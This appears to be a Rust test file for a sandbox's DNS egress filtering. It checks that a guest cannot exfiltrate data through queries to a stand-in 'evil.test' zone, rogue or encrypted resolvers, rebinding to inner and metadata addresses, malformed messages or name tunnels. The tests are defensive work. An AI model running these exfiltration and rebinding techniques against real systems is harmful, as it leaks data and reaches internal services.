//! Names leak what is in them, and answers lie.

use serde_json::json;

use super::{Group, cases};
use crate::{
    guest::{As, Guest},
    trial::Trial,
};

pub(super) const GROUP: Group = Group {
    name: "dns",
    variables: &[],
    guest: |hood| Guest::new(hood, &["--allow", "good.test,*.good.test,*.wild.test"]),
    cases: cases![
        unlisted_names_are_not_sent_on,
        other_types_carry_nothing,
        encrypted_hello_is_not_offered,
        other_resolvers,
        https_and_tls_resolvers,
        multicast_names,
        answers_that_point_inside,
        rebinding,
        forms_of_inner_addresses,
        an_alias_is_who_was_asked_for,
        messages_that_are_none,
        long_labels,
        a_tunnel_in_names,
        // The last one: the name servers are asked again for a while.
        questions_that_nobody_answers,
    ],
};

fn unlisted_names_are_not_sent_on(t: &mut Trial<'_>) {
    let types = ["A", "AAAA", "TXT", "MX", "NS", "SRV", "NULL", "HTTPS", "ANY", "PTR", "CNAME"];
    let asked: Vec<_> = types
        .iter()
        .map(|kind| json!({"do": "dns", "name": format!("data-{kind}.evil.test"), "type": kind}))
        .chain([
            json!({"do": "dns", "name": "data-tcp.evil.test", "tcp": true}),
            json!({"do": "dns", "name": "data-six.evil.test", "server": "fd66:756d:6500::1"}),
            json!({"do": "resolve", "name": "data-libc.evil.test"}),
        ])
        .collect();
    t.attack(&json!(asked))
        .told_of("dns", "no rule allows", &["data-a.evil.test", "data-tcp.evil.test"])
        .unseen();
    t.lawful(&json!([
        {"do": "dns", "name": "good.test"},
        {"do": "dns", "name": "good.test", "type": "AAAA"},
        {"do": "dns", "name": "good.test", "tcp": true},
        {"do": "dns", "name": "good.test", "server": "fd66:756d:6500::1"},
        {"do": "resolve", "name": "good.test"},
    ]));
}

/// Of an allowed name addresses are asked for, and what services are found by (TXT, MX, SRV); nothing
/// else is sent on.
fn other_types_carry_nothing(t: &mut Trial<'_>) {
    let types = ["NULL", "NS", "ANY", "CNAME", "PTR", "HTTPS"];
    let asked: Vec<_> = types
        .iter()
        .map(|kind| json!({"do": "dns", "name": "types.good.test", "type": kind}))
        .collect();
    let tried = t.attempt(As::User, &json!(asked)).untold("an empty answer refuses nothing");
    for outcome in &tried.outcomes {
        assert!(outcome["answers"].as_array().is_none_or(Vec::is_empty), "{outcome}");
    }
    let seen = tried.seen();
    seen.nothing();
    t.lawful(&json!({"do": "dns", "name": "types.good.test"}));
}

/// A browser that learns a key for ECH hides the name that we judge by.
fn encrypted_hello_is_not_offered(t: &mut Trial<'_>) {
    let tried = t
        .attempt(As::User, &json!({"do": "dns", "name": "good.test", "type": "HTTPS"}))
        .untold("an empty answer refuses nothing");
    let hex = "6563682d6f662d676f6f642d74657374"; // ech-of-good-test
    assert!(!tried.outcomes[0].to_string().contains(hex), "{:?}", tried.outcomes);
    drop(tried.seen());
    t.lawful(&json!({"do": "get", "host": "good.test"}));
}

/// A resolver of the guest's choice is asked nothing.
fn other_resolvers(t: &mut Trial<'_>) {
    t.attack(&json!([
        {"do": "dns", "name": "via-udp.evil.test", "server": "203.0.113.53"},
        {"do": "dns", "name": "via-tcp.evil.test", "server": "203.0.113.53", "tcp": true},
        {"do": "dns", "name": "via-other.evil.test", "server": "203.0.113.66"},
        {"do": "dns", "name": "via-six.evil.test", "server": "2001:4860:f::66"},
        {"do": "dns", "name": "via-port.evil.test", "server": "203.0.113.66", "port": 3478},
    ]))
    .told_as("a denial", |event| event.denies("udp", "") || event.denies("dns", ""))
    .unseen();
    t.lawful(&json!({"do": "dns", "name": "good.test"}));
}

fn https_and_tls_resolvers(t: &mut Trial<'_>) {
    t.attack(&json!([
        {"do": "get", "host": "doh.test", "path": "/dns-query?dns=AAAA"},
        {"do": "get", "host": "doh.test", "address": "203.0.113.36", "path": "/dns-query"},
        {"do": "tls", "host": "203.0.113.53", "port": 853, "sni": "good.test"},
        {"do": "connect", "host": "good.test", "port": 853},
        {"do": "udp", "host": "203.0.113.53", "port": 853},
        {"do": "udp", "host": "203.0.113.10", "port": 853},
        {"do": "get", "host": "doh.test", "address": "good.test", "tls": false, "path": "/dns-query"},
    ]))
    .told_of("dns", "no rule allows", &["doh.test"])
    .unheard();
    // DNS over HTTPS to an allowed host is a request like any other.
    t.lawful(&json!({"do": "get", "host": "good.test", "path": "/echo?dns=AAAA"}));
}

fn multicast_names(t: &mut Trial<'_>) {
    let targets = [
        ("224.0.0.251", 5353),
        ("224.0.0.252", 5355),
        ("255.255.255.255", 137),
        ("198.18.0.3", 137),
        ("239.255.255.250", 1900),
        ("ff02::fb%eth0", 5353),
    ];
    let asked: Vec<_> = targets
        .iter()
        .map(|(host, port)| json!({"do": "udp", "host": host, "port": port, "patience": 0.3}))
        .collect();
    let tried = t.attempt(As::User, &json!(asked)).told("other", "it is for many");
    for outcome in &tried.outcomes {
        assert_ne!(outcome["end"], "ok", "{outcome}");
    }
    tried.unseen();
    t.lawful(&json!({"do": "dns", "name": "good.test"}));
}

/// An allowed name whose owner says that it is inside.
fn answers_that_point_inside(t: &mut Trial<'_>) {
    let inside =
        ["0a4d000a", "7f000001", "a9fea9fe", "cb007101", "c6120001", "00000000", "e00000fb"];
    let names: Vec<String> = inside.iter().map(|hex| format!("at-{hex}.good.test")).collect();
    let asked: Vec<_> =
        names.iter().map(|name| json!({"do": "get", "host": name, "tls": false})).collect();
    let refused = t.attack(&json!(asked)).told_as("a denial for an inner address", |event| {
        event.text("decision") == "deny" && event.text("host").starts_with("at-")
    });
    let seen = refused.seen();
    seen.no_request();
    for address in ["10.77.0.10", "169.254.169.254", "203.0.113.1"] {
        seen.no_packet_to(address);
    }
    let last = t.guest.audit();
    for name in &names {
        assert!(
            last.iter().any(|event| event.text("decision") == "deny" && event.text("host") == name),
            "nothing is told of {name}"
        );
    }
    t.lawful(&json!([
        {"do": "get", "host": "at-cb00710a.good.test", "tls": false},
        {"do": "get", "host": "both-good-and-private.good.test", "tls": false},
    ]));
}

/// The first answer is public, the next one inside; the one that was checked is the one that counts.
fn rebinding(t: &mut Trial<'_>) {
    let names = ["rebind-0a4d000a.good.test", "rebind-a9fea9fe.good.test"];
    for name in names {
        t.lawful(&json!({"do": "dns", "name": name}));
        let again = t
            .attempt(
                As::User,
                &json!([
                    {"do": "dns", "name": name},
                    {"do": "get", "host": name, "tls": false},
                    {"do": "get", "host": name, "tls": false},
                    {"do": "connect", "host": name, "port": 443, "wait": false},
                    {"do": "connect", "host": "10.77.0.10", "port": 80},
                    {"do": "connect", "host": "169.254.169.254", "port": 80},
                ]),
            )
            .told_as("a denial", |event| event.text("decision") == "deny");
        for outcome in &again.outcomes[4..] {
            assert_ne!(outcome["end"], "ok", "{outcome}");
        }
        let seen = again.seen();
        seen.no_packet_to("10.77.0.10");
        seen.no_packet_to("169.254.169.254");
        for request in seen.heard() {
            assert_eq!(request["server"], "203.0.113.10", "{request}");
        }
    }
}

/// An inner address in the forms in which IPv6 carries it.
fn forms_of_inner_addresses(t: &mut Trial<'_>) {
    let forms = [
        "00000000000000000000ffff0a4d000a",  // mapped
        "0000000000000000000000000a4d000a",  // compatible
        "0064ff9b0000000000000000 0a4d000a", // NAT64
        "20020a4d000a00000000000000000001",  // 6to4
        "00000000000000000000000000000001",
        "fe800000000000000000000000000001",
        "fd000ec2000000000000000000000254",
        "ff020000000000000000000000000001",
    ];
    let names: Vec<String> =
        forms.iter().map(|hex| format!("at-{}.good.test", hex.replace(' ', ""))).collect();
    let asked: Vec<_> = names
        .iter()
        .flat_map(|name| {
            [json!({"do": "get", "host": name, "tls": false}), json!({"do": "get", "host": name})]
        })
        .collect();
    let refused = t.attack(&json!(asked)).told_as("a denial of a form", |event| {
        event.text("decision") == "deny" && event.text("host").starts_with("at-")
    });
    let seen = refused.seen();
    seen.no_request();
    let led: Vec<_> = seen.flows.iter().filter(|flow| flow["target"] != "203.0.113.53").collect();
    assert!(led.is_empty(), "{led:?}");
    t.lawful(&json!({"do": "get", "host": "six.good.test", "tls": false}));
}

/// `alias.good.test` is a CNAME of `evil.test`: it may be reached under the name that is allowed,
/// as with any content network, and under no other.
fn an_alias_is_who_was_asked_for(t: &mut Trial<'_>) {
    t.lawful(&json!({"do": "get", "host": "alias.good.test", "tls": false}));
    t.attack(&json!([
        {"do": "get", "host": "evil.test", "address": "alias.good.test", "tls": false},
        {"do": "tls", "host": "alias.good.test", "sni": "evil.test"},
    ]))
    .told("tls", "")
    .unheard();
}

fn messages_that_are_none(t: &mut Trial<'_>) {
    let messages = [
        "",
        "00",
        "0001010000010000000000",
        "000101000001000000000000",
        // A name that points to itself, and one that runs out of the message.
        "000101000001000000000000c00c00010001",
        "0001010000010000000000003f6161",
        // Two questions; none; sixty thousand.
        "00010100000200000000000004676f6f6404746573740000010001046576696c04746573740000010001",
        "000101000000000000000000",
        "0001010000ffff000000000004676f6f6404746573740000010001",
        // An answer, a notify, an update.
        "00018180000100000000000004676f6f6404746573740000010001",
        "00012100000100000000000004676f6f6404746573740000060001",
        "00012900000100000000000004676f6f6404746573740000060001",
        // A class of chaos.
        "0001010000010000000000000776657273696f6e0462696e640000100003",
    ];
    let asked: Vec<_> = messages
        .iter()
        .flat_map(|hex| {
            let udp = json!({"do": "udp_dns", "raw": hex});
            [udp, json!({"do": "tcp_dns", "raw": hex})]
        })
        .collect();
    let tried =
        t.attempt(As::User, &json!(asked)).untold("what is no question has no name to tell of");
    for outcome in &tried.outcomes {
        let none = outcome["answers"].as_array().is_none_or(Vec::is_empty);
        assert!(none, "{outcome}");
    }
    tried.seen().no_question_about("evil");
    t.lawful(&json!([
        {"do": "dns", "name": "good.test"},
        {"do": "dns", "name": "good.test", "tcp": true},
    ]));
}

/// A name server of the guest's friend that says nothing holds nobody up.
fn questions_that_nobody_answers(t: &mut Trial<'_>) {
    t.lawful(&json!({"do": "dns", "name": "good.test"}));
    let asked = [
        json!({"do": "dns_silence", "zone": "good.test", "count": 200}),
        json!({"do": "get", "host": "good.test", "address": "203.0.113.10", "tls": false}),
    ];
    let tried =
        t.attempt(As::User, &json!(asked)).untold("that nobody answers is no decision of ours");
    let served = tried.outcomes.last().unwrap().clone();
    drop(tried.seen());
    assert_eq!(served["status"], 200, "{served}");
    assert!(served["ms"].as_u64().unwrap() < 5000, "{served}");
}

/// A label of 63 characters holds 40 bytes of somebody's file.
fn long_labels(t: &mut Trial<'_>) {
    let label = "abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvwxyz23456";
    let name = format!("{label}.{label}.{label}.wild.test");
    t.attack(&json!([{"do": "dns", "name": name}])).told("dns", "too many or too long").unseen();
    let name = "a-name-as-long-as-those-of-content-networks-are.eu-west-1.wild.test";
    t.lawful(&json!({"do": "dns", "name": name}));
}

/// Short random names under an allowed zone: their rate is limited, so that a file is not.
fn a_tunnel_in_names(t: &mut Trial<'_>) {
    let count = 1500;
    let tried = t
        .attempt(As::User, &json!({"do": "dns_flood", "zone": "wild.test", "count": count}))
        .told("dns", "too many or too long");
    let ends = tried.outcomes[0]["ends"].clone();
    let sent = tried.seen().names.len();
    assert!(sent < count / 3, "{sent} names of {count} were sent on; {ends}");
    assert!(ends.get("timeout").is_none(), "{ends}");
    t.lawful(&json!({"do": "dns", "name": "good.test"}));
}
